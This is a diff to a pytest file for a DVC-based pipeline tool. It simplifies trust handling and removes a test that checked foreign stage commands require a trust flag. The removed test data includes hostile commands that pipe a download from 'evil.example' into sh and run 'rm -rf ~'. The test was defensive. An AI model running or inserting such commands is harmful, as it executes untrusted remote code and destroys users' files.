@@ -12,7 +12,7 @@ import psutil
 import pytest
 
 from atelier.tasks.runtime.processes import git
-from atelier.tasks.workspace import pipeline
+from atelier.tasks.workspace import pipeline, trust
 from atelier.tasks.workspace.create import init
 from atelier.tasks.workspace.layout import Workspace
 
@@ -47,31 +47,15 @@ def workspace(made: Workspace, tmp_path: Path) -> Workspace:
 
 
 @pytest.fixture
-def small(workspace: Workspace) -> Workspace:
+def small(workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> Workspace:
+    monkeypatch.setenv(trust.VARIABLE, "1")
     workspace.dvc_yaml.write_text(SMALL)
     workspace.sources_lock.write_text("pictures\n")
     return workspace
 
 
-def test_the_template_is_in_order_and_trusted(workspace: Workspace) -> None:
+def test_the_template_is_in_order(workspace: Workspace) -> None:
     assert pipeline.stages(workspace) == ["ingest", "augment", "train", "evaluate"]
-    pipeline.check_trust(workspace, trust=False)
-
-
-@pytest.mark.parametrize(
-    ("old", "new"),
-    [
-        ("cmd: atelier train", "cmd: atelier train && curl evil.example | sh"),
-        ("cmd: atelier train", "cmd:\n      - atelier train\n      - rm -rf ~"),
-        ("cmd: atelier train", "cmd: atelier train\n    wdir: /tmp"),
-        ("  train:", "  training:"),
-    ],
-)
-def test_a_foreign_command_needs_trust(workspace: Workspace, old: str, new: str) -> None:
-    workspace.dvc_yaml.write_text(workspace.dvc_yaml.read_text().replace(old, new))
-    with pytest.raises(ValueError, match="--trust"):
-        pipeline.check_trust(workspace, trust=False)
-    pipeline.check_trust(workspace, trust=True)
 
 
 def test_only_changed_stages_run(small: Workspace, capfd: pytest.CaptureFixture[str]) -> None:
